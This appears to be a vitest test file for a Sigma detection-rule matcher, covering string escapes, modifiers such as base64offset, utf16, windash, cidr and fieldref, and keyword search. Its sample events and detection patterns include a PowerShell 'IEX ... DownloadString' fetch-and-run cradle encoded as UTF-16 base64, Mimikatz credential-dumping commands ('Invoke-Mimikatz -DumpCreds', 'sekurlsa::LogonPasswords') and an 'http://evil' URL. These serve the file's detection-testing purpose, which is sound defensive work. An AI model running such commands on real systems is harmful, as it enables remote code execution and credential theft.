// Value modifiers and Sigma string semantics, mostly from the examples of the Sigma specification.
import { describe, expect, it } from 'vitest';
import { matches } from '../testdata/helpers.js';
import { base64Offsets, parseFieldTest, parseSigmaString, ValueError } from './values.js';

const cmd = (command_line: string): Record<string, unknown> => ({ 'process.command_line': command_line });

describe('Sigma strings', () => {
  it('matches plain values as whole, case-insensitive strings', () => {
    expect(matches({ sel: { Image: 'C:\\Windows\\System32\\whoami.exe' }, condition: 'sel' }, { 'process.executable': 'c:\\windows\\system32\\WHOAMI.EXE' })).toBe(true);
    expect(matches({ sel: { Image: 'C:\\Windows\\System32\\whoami.exe' }, condition: 'sel' }, { 'process.executable': 'C:\\Windows\\System32\\whoami.exe.bak' })).toBe(false);
  });

  it('treats * as any run of characters and ? as exactly one', () => {
    const det = { sel: { Image: 'prog?.exe' }, condition: 'sel' };
    expect(matches(det, { 'process.executable': 'progA.exe' })).toBe(true);
    expect(matches(det, { 'process.executable': 'prog.exe' })).toBe(false);
    const star = { sel: { Image: 'antivirus_V*.exe' }, condition: 'sel' };
    expect(matches(star, { 'process.executable': 'antivirus_V21.2.1.exe' })).toBe(true);
    expect(matches(star, { 'process.executable': 'antivirus_W1.exe' })).toBe(false);
  });

  it('reads the escapes of the specification: \\* and \\? are plain, \\\\ is one backslash, a lone backslash stays', () => {
    expect(parseSigmaString('a\\*b')).toEqual([{ k: 'lit', s: 'a*b' }]);
    expect(parseSigmaString('a\\?')).toEqual([{ k: 'lit', s: 'a?' }]);
    expect(parseSigmaString('C:\\Windows')).toEqual([{ k: 'lit', s: 'C:\\Windows' }]);
    expect(parseSigmaString('\\\\*')).toEqual([{ k: 'lit', s: '\\' }, { k: 'star' }]);
    expect(parseSigmaString('\\\\\\*')).toEqual([{ k: 'lit', s: '\\*' }]);
    expect(parseSigmaString('\\\\\\\\')).toEqual([{ k: 'lit', s: '\\\\' }]);
    expect(matches({ sel: { CommandLine: '*what\\?*' }, condition: 'sel' }, cmd('say what?'))).toBe(true);
    expect(matches({ sel: { CommandLine: '*what\\?*' }, condition: 'sel' }, cmd('say whatX'))).toBe(false);
  });

  it('ORs a list of values and ANDs the fields of a map', () => {
    const det = { sel: { 'event.code': [517, 1102], 'winlog.channel': 'Security' }, condition: 'sel' };
    expect(matches(det, { 'event.code': '1102', winlog: { channel: 'Security' } })).toBe(true);
    expect(matches(det, { 'event.code': '4624', winlog: { channel: 'Security' } })).toBe(false);
    expect(matches(det, { 'event.code': '517', winlog: { channel: 'System' } })).toBe(false);
  });

  it('ORs the maps of a list of maps', () => {
    const det = { sel: [{ 'Image|endswith': '\\example.exe' }, { 'Description|contains': 'Test executable' }], condition: 'sel' };
    expect(matches(det, { winlog: { event_data: { Image: 'C:\\x\\example.exe' } } })).toBe(true);
    expect(matches(det, { winlog: { event_data: { Image: 'C:\\x\\other.exe', Description: 'A test executable here' } } })).toBe(true);
    expect(matches(det, { winlog: { event_data: { Image: 'C:\\x\\other.exe' } } })).toBe(false);
  });

  it('tells an empty value from a missing field: null means missing', () => {
    const empty = { sel: { 'user.domain': '' }, condition: 'sel' };
    const nul = { sel: { PasswordLastSet: null }, condition: 'sel' };
    expect(matches({ sel: { PasswordLastSet: '' }, condition: 'sel' }, { winlog: { event_data: { PasswordLastSet: '' } } })).toBe(true);
    expect(matches(nul, { winlog: { event_data: { PasswordLastSet: '' } } })).toBe(false);
    expect(matches(nul, { winlog: { event_data: { Other: 'x' } } })).toBe(true);
    // A typed ECS field cannot be told apart from the proto3 default, so '' there reads as missing.
    expect(matches(empty, { 'user.name': 'bob' })).toBe(false);
  });

  it('rejects null inside a list of values, as the specification asks', () => {
    expect(() => parseFieldTest('FieldB', ['', null], 1)).toThrow(ValueError);
  });
});

describe('generic modifiers', () => {
  it('contains, startswith and endswith put wildcards around the value', () => {
    expect(matches({ s: { 'CommandLine|contains': 'ADMIN$' }, condition: 's' }, cmd('copy x \\\\host\\admin$\\y'))).toBe(true);
    expect(matches({ s: { 'CommandLine|startswith': 'adm' }, condition: 's' }, cmd('administrator'))).toBe(true);
    expect(matches({ s: { 'CommandLine|startswith': 'adm' }, condition: 's' }, cmd('the administrator'))).toBe(false);
    expect(matches({ s: { 'CommandLine|endswith': '\\cmd.exe' }, condition: 's' }, cmd('C:\\Windows\\cmd.exe'))).toBe(true);
    expect(matches({ s: { 'CommandLine|endswith': '\\cmd.exe' }, condition: 's' }, cmd('C:\\Windows\\cmd.exe /c'))).toBe(false);
  });

  it('all ANDs the values of a list', () => {
    const det = { s: { 'CommandLine|contains|all': ['OabVirtualDirectory', ' -ExternalUrl '] }, condition: 's' };
    expect(matches(det, cmd('Set-OabVirtualDirectory -ExternalUrl http://x'))).toBe(true);
    expect(matches(det, cmd('Set-OabVirtualDirectory -InternalUrl http://x'))).toBe(false);
  });

  it('exists checks presence, not value', () => {
    expect(matches({ s: { 'PasswordLastSet|exists': true }, condition: 's' }, { winlog: { event_data: { PasswordLastSet: '' } } })).toBe(true);
    expect(matches({ s: { 'PasswordLastSet|exists': true }, condition: 's' }, { winlog: { event_data: {} } })).toBe(false);
    expect(matches({ s: { 'PasswordLastSet|exists': false }, condition: 's' }, { winlog: { event_data: {} } })).toBe(true);
  });

  it('cased matches case-sensitively', () => {
    expect(matches({ s: { 'CommandLine|contains|cased': ' -H ' }, condition: 's' }, cmd('curl -H x'))).toBe(true);
    expect(matches({ s: { 'CommandLine|contains|cased': ' -H ' }, condition: 's' }, cmd('curl -h x'))).toBe(false);
  });

  it('neq matches fields different from every value', () => {
    const det = { s: { 'user.name|neq': ['root', 'admin'] }, condition: 's' };
    expect(matches(det, { 'user.name': 'bob' })).toBe(true);
    expect(matches(det, { 'user.name': 'ROOT' })).toBe(false);
  });
});

describe('string modifiers', () => {
  it('windash accepts -, /, en dash, em dash and horizontal bar at the start of a flag', () => {
    const det = { s: { 'CommandLine|windash|contains': ' -enc ' }, condition: 's' };
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(matches(det, cmd(`powershell ${dash}enc AAAA`))).toBe(true);
    expect(matches(det, cmd('powershell +enc AAAA'))).toBe(false);
    // Only flag dashes vary: the one inside "x-y" is written as is.
    const inner = { s: { 'CommandLine|windash|contains': 'a-b -c' }, condition: 's' };
    expect(matches(inner, cmd('a-b /c'))).toBe(true);
    expect(matches(inner, cmd('a/b /c'))).toBe(false);
  });

  it('re is case-sensitive and searches anywhere unless anchored; i, m and s set its flags', () => {
    expect(matches({ s: { 'CommandLine|re': '\\s-k\\s' }, condition: 's' }, cmd('curl -k https://x'))).toBe(true);
    expect(matches({ s: { 'CommandLine|re': '\\s-k\\s' }, condition: 's' }, cmd('curl -K https://x'))).toBe(false);
    expect(matches({ s: { 'CommandLine|re|i': '\\s-k\\s' }, condition: 's' }, cmd('curl -K https://x'))).toBe(true);
    expect(matches({ s: { 'CommandLine|re': '^b$' }, condition: 's' }, cmd('a\nb'))).toBe(false);
    expect(matches({ s: { 'CommandLine|re|m': '^b$' }, condition: 's' }, cmd('a\nb'))).toBe(true);
    expect(matches({ s: { 'CommandLine|re': 'a.b' }, condition: 's' }, cmd('a\nb'))).toBe(false);
    expect(matches({ s: { 'CommandLine|re|s': 'a.b' }, condition: 's' }, cmd('a\nb'))).toBe(true);
  });

  it('turns PCRE leading inline flags into RegExp flags and rejects broken expressions', () => {
    expect(matches({ s: { 'CommandLine|re': '(?i)WHOAMI' }, condition: 's' }, cmd('whoami /all'))).toBe(true);
    expect(() => parseFieldTest('CommandLine|re', '([a-z', 1)).toThrow(/invalid regular expression/);
    expect(() => parseFieldTest('CommandLine|i', 'x', 1)).toThrow(/flag of 're'/);
  });

  it('base64 matches the encoded value', () => {
    const enc = Buffer.from('http://evil').toString('base64');
    expect(matches({ s: { 'CommandLine|base64|contains': 'http://evil' }, condition: 's' }, cmd(`x ${enc} y`))).toBe(true);
    expect(matches({ s: { 'CommandLine|base64|contains': 'http://good' }, condition: 's' }, cmd(`x ${enc} y`))).toBe(false);
  });

  it('base64offset finds a value at any byte offset of a base64 text', () => {
    const needle = 'Invoke-Mimikatz';
    for (const prefix of ['', 'a', 'ab', 'abc', 'abcd']) {
      const enc = Buffer.from(`${prefix}${needle} -DumpCreds`).toString('base64');
      expect(matches({ s: { 'CommandLine|base64offset|contains': needle }, condition: 's' }, cmd(`powershell -e ${enc}`))).toBe(true);
    }
    expect(base64Offsets(Buffer.from('http://'))).toEqual(['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v']);
  });

  it('utf16le, wide, utf16be and utf16 encode the value before the next modifier', () => {
    const payload = 'IEX (New-Object Net.WebClient).DownloadString("http://x")';
    const wide = Buffer.from(payload, 'utf16le').toString('base64');
    expect(matches({ s: { 'CommandLine|wide|base64offset|contains': 'New-Object Net.WebClient' }, condition: 's' }, cmd(`powershell -enc ${wide}`))).toBe(true);
    expect(matches({ s: { 'CommandLine|utf16le|base64offset|contains': 'New-Object Net.WebClient' }, condition: 's' }, cmd(`powershell -enc ${wide}`))).toBe(true);
    // Without the UTF-16 step the same text is not found in the UTF-16 payload.
    expect(matches({ s: { 'CommandLine|base64offset|contains': 'New-Object Net.WebClient' }, condition: 's' }, cmd(`powershell -enc ${wide}`))).toBe(false);
    const be = Buffer.from('cmd', 'utf16le').swap16().toString('base64');
    expect(matches({ s: { 'CommandLine|utf16be|base64|contains': 'cmd' }, condition: 's' }, cmd(be))).toBe(true);
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('cmd', 'utf16le')]).toString('base64');
    expect(matches({ s: { 'CommandLine|utf16|base64': 'cmd' }, condition: 's' }, cmd(bom))).toBe(true);
  });

  it('refuses to encode wildcards', () => {
    expect(() => parseFieldTest('CommandLine|contains|base64', 'x', 1)).toThrow(/plain value/);
  });
});

describe('numeric, time, IP and specific modifiers', () => {
  it('gt, gte, lt and lte compare numbers, including Windows hex', () => {
    expect(matches({ s: { 'http.response.status_code|gte': 500 }, condition: 's' }, { 'http.response.status_code': 503 })).toBe(true);
    expect(matches({ s: { 'http.response.status_code|gt': 500 }, condition: 's' }, { 'http.response.status_code': 500 })).toBe(false);
    expect(matches({ s: { 'http.response.status_code|lt': 400 }, condition: 's' }, { 'http.response.status_code': 200 })).toBe(true);
    expect(matches({ s: { 'http.response.status_code|lte': 400 }, condition: 's' }, { 'http.response.status_code': 401 })).toBe(false);
    expect(matches({ s: { 'GrantedAccess|gte': 4096 }, condition: 's' }, { winlog: { event_data: { GrantedAccess: '0x1010' } } })).toBe(true);
    expect(matches({ s: { 'http.response.status_code|gt': 1 }, condition: 's' }, { 'user.name': 'no status' })).toBe(false);
  });

  it('minute, hour, day, week, month and year read a part of a date', () => {
    const ev = { winlog: { event_data: { UtcTime: '2024-03-10 23:15:00.008' } } };
    expect(matches({ s: { 'UtcTime|hour': 23 }, condition: 's' }, ev)).toBe(true);
    expect(matches({ s: { 'UtcTime|hour|gte': 22, 'UtcTime|minute|lt': 30 }, condition: 's' }, ev)).toBe(true);
    expect(matches({ s: { 'UtcTime|day': 10, 'UtcTime|month': 3, 'UtcTime|year': 2024 }, condition: 's' }, ev)).toBe(true);
    expect(matches({ s: { 'UtcTime|week': 10 }, condition: 's' }, ev)).toBe(true);
    expect(matches({ s: { 'UtcTime|hour': 22 }, condition: 's' }, ev)).toBe(false);
  });

  it('cidr matches IPv4 and IPv6 networks', () => {
    const det = { s: { 'DestinationIp|cidr': ['10.0.0.0/8', 'fd00::/8'] }, condition: 's' };
    expect(matches(det, { 'destination.ip': '10.20.30.40' })).toBe(true);
    expect(matches(det, { 'destination.ip': '11.0.0.1' })).toBe(false);
    expect(matches(det, { 'destination.ip': 'fd12:3456::1' })).toBe(true);
    expect(matches(det, { 'destination.ip': 'fe80::1' })).toBe(false);
    expect(matches(det, { 'destination.ip': '::ffff:10.1.2.3' })).toBe(true);
    expect(matches({ s: { 'SourceIp|cidr': '192.168.1.0/24' }, condition: 's' }, { 'source.ip': '192.168.2.1' })).toBe(false);
    expect(() => parseFieldTest('DestinationIp|cidr', '10.0.0.0/33', 1)).toThrow(ValueError);
  });

  it('fieldref compares two fields of the event, also with contains and neq', () => {
    const same = { s: { 'User|fieldref': 'ParentUser' }, condition: 's' };
    expect(matches(same, { winlog: { event_data: { User: 'CORP\\Bob', ParentUser: 'corp\\bob' } } })).toBe(true);
    expect(matches(same, { winlog: { event_data: { User: 'CORP\\Bob', ParentUser: 'CORP\\Alice' } } })).toBe(false);
    expect(matches(same, { winlog: { event_data: { User: 'CORP\\Bob' } } })).toBe(false);
    expect(matches({ s: { 'CommandLine|fieldref|contains': 'TargetName' }, condition: 's' }, { 'process.command_line': 'net use \\\\srv1\\c$', winlog: { event_data: { TargetName: 'SRV1' } } })).toBe(true);
    expect(matches({ s: { 'User|fieldref|neq': 'ParentUser' }, condition: 's' }, { winlog: { event_data: { User: 'a', ParentUser: 'b' } } })).toBe(true);
  });

  it('expand replaces placeholders with the configured values and keeps escaped percents', () => {
    const det = { s: { 'user.name|expand': '%Administrators%' }, condition: 's' };
    const placeholders = { Administrators: ['admin', 'adm_*'] };
    expect(matches(det, { 'user.name': 'adm_bob' }, { placeholders })).toBe(true);
    expect(matches(det, { 'user.name': 'bob' }, { placeholders })).toBe(false);
    expect(matches({ s: { 'CommandLine|expand': '\\%plain%name%' }, condition: 's' }, cmd('%plainX'), { placeholders: { name: ['X'] } })).toBe(true);
    // Without expand, a placeholder is a plain value.
    expect(matches({ s: { CommandLine: '%name%' }, condition: 's' }, cmd('%name%'))).toBe(true);
  });

  it('refuses a rule whose placeholder has no configured values', () => {
    expect(() => matches({ s: { 'user.name|expand': '%Servers%' }, condition: 's' }, { 'user.name': 'x' })).toThrow(/%Servers% has no values/);
  });

  it('rejects unknown modifiers and combinations that mean nothing', () => {
    expect(() => parseFieldTest('Image|endswit', 'x', 1)).toThrow(/unknown modifier 'endswit'/);
    expect(() => parseFieldTest('Image|re|cidr', 'x', 1)).toThrow(/cannot be combined/);
    expect(() => parseFieldTest('Port|gt', 'abc', 1)).toThrow(/needs a number/);
    expect(() => parseFieldTest('Image|exists', 'maybe', 1)).toThrow(/true or false/);
  });
});

describe('keywords', () => {
  it('search the message and the original record, case-insensitively', () => {
    const det = { keywords: ['EVILSERVICE', 'svchost.exe -n evil'], condition: 'keywords' };
    expect(matches(det, { message: 'service evilservice installed' })).toBe(true);
    expect(matches(det, { 'event.original': '<Event>svchost.exe -n evil</Event>' })).toBe(true);
    expect(matches(det, { message: 'all quiet', 'process.command_line': 'EVILSERVICE' })).toBe(false);
  });

  it('fold case on the texts as they are, and span message and record only with a line break of their own', () => {
    const det = { keywords: ['sekurlsa::', 'gentilkiwi.com'], condition: 'keywords' };
    expect(matches(det, { message: 'ran SEKURLSA::LogonPasswords', 'event.original': '<Event/>' })).toBe(true);
    expect(matches(det, { message: 'nothing here', 'event.original': '<Data>http://blog.GentilKiwi.com</Data>' })).toBe(true);
    // The Kelvin sign folds to k, as RE2 and the field prefilters fold it.
    expect(matches(det, { 'event.original': 'gentil\u212Aiwi.com' })).toBe(true);
    // Without a line break in the keyword, the end of the message and the start of the record do not join up.
    expect(matches(det, { message: 'see sekurlsa', 'event.original': '::x' })).toBe(false);
    expect(matches(det, { message: 'all quiet', 'process.command_line': 'sekurlsa::' })).toBe(false);
    const spanning = { keywords: ['quiet\nstart'], condition: 'keywords' };
    expect(matches(spanning, { message: 'all QUIET', 'event.original': 'START of the record' })).toBe(true);
    expect(matches(spanning, { message: 'all quiet', 'event.original': 'stop' })).toBe(false);
  });

  it('AND together under |all', () => {
    const det = { keywords: { '|all': ['OabVirtualDirectory', ' -ExternalUrl '] }, condition: 'keywords' };
    expect(matches(det, { message: 'Set-OabVirtualDirectory -ExternalUrl x' })).toBe(true);
    expect(matches(det, { message: 'Set-OabVirtualDirectory only' })).toBe(false);
  });
});
